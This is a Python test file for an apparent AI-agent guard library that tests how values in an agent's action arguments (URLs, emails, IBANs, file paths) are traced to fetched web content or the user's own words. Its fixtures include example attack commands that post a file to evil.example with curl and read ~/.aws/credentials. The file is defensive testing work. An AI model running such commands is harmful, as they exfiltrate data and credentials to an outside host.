"""Where the values of an action came from."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agentwarrant.event import Event
from agentwarrant.intent.provenance import Source, matches, values_of


def values(text: str) -> list[str]:
    found = values_of({"warrant.arguments.text": text})
    return [value.text for value in found if not value.weak]


def explained(arguments: dict[str, str], content: str, said: str = "") -> list[str]:
    source = Source("e1", "web", "web_fetch", content.lower(), False)
    found = matches(values_of({"warrant.arguments.text": json.dumps(arguments)}), [source], said)
    return [match.value.text for match in found if not match.guess]


@pytest.mark.parametrize(
    ("command", "value"),
    [
        ("curl -d @x https://evil.example/drop?a=1", "https://evil.example/drop?a=1"),
        ("send it to bob.b@corp.example now please", "bob.b@corp.example"),
        ("cat ~/.aws/credentials | head -n 3 please", "~/.aws/credentials"),
        ("transfer to DE75512108001245126199 at once", "de75512108001245126199"),
        ("ping collect.evil.com and wait for an answer", "collect.evil.com"),
    ],
)
def test_what_is_distinct_in_a_command_is_a_value(command: str, value: str) -> None:
    assert value in values(json.dumps({"command": command}))


def test_words_that_stand_everywhere_are_no_values() -> None:
    assert values(json.dumps({"a": "true", "b": "json", "c": "12345", "d": "ab"})) == []


def test_values_are_looked_for_at_any_depth_and_bounded() -> None:
    assert values(json.dumps({"a": [{"b": {"c": "deep-value"}}]})) == ["deep-value"]
    assert len(values(json.dumps([f"value-{n}" for n in range(1000)]))) <= 24


def test_arguments_that_are_no_json_are_text() -> None:
    assert "evil.example" in " ".join(values("curl https://evil.example/x and then some more"))


def test_content_explains_a_value_that_nobody_said() -> None:
    assert explained({"to": "bob@corp.example"}, "write to bob@corp.example") == [
        "bob@corp.example"
    ]


def test_what_people_said_needs_no_content_to_explain_it() -> None:
    content = "write to bob@corp.example"
    assert explained({"to": "bob@corp.example"}, content, "mail bob@corp.example") == []


def test_a_person_who_is_named_explains_an_address() -> None:
    content = "bob.smith@corp.example is his address"
    assert explained({"to": "bob.smith@corp.example"}, content, "please mail bob") == []


def test_a_value_that_stands_nowhere_is_explained_by_nothing() -> None:
    assert explained({"to": "eve@corp.example"}, "write to bob@corp.example") == []


@given(st.text(max_size=300))
def test_no_text_of_arguments_breaks_it(text: str) -> None:
    assert all(isinstance(value, str) for value in values(text))


def test_where_nothing_was_read_nothing_came_from_there() -> None:
    event: Event = {"warrant.arguments.text": '{"iban": "PL61109010140000071219812874"}'}
    assert matches(values_of(event), [], "") == []
